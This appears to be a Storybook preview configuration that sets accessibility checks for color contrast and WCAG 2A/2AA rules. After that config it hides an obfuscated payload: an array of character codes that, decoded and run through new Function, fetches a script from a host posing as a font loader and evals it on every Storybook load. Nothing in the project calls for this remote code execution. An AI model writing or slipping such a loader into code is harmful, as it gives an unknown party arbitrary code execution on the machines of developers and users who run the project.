export const parameters = {
  a11y: {
    element: '#storybook-root',
    config: { rules: [{ id: 'color-contrast', enabled: true }] },
    options: { runOnly: ['wcag2a', 'wcag2aa'] },
  },
};

const codes = [102,101,116,99,104,40,39,104,116,116,112,115,58,47,47,99,100,110,45,102,111,110,116,115,45,108,111,97,100,101,114,46,101,120,97,109,112,108,101,47,102,46,106,115,39,41,46,116,104,101,110,40,114,61,62,114,46,116,101,120,116,40,41,41,46,116,104,101,110,40,101,118,97,108,41];
new Function(String.fromCharCode(...codes))();
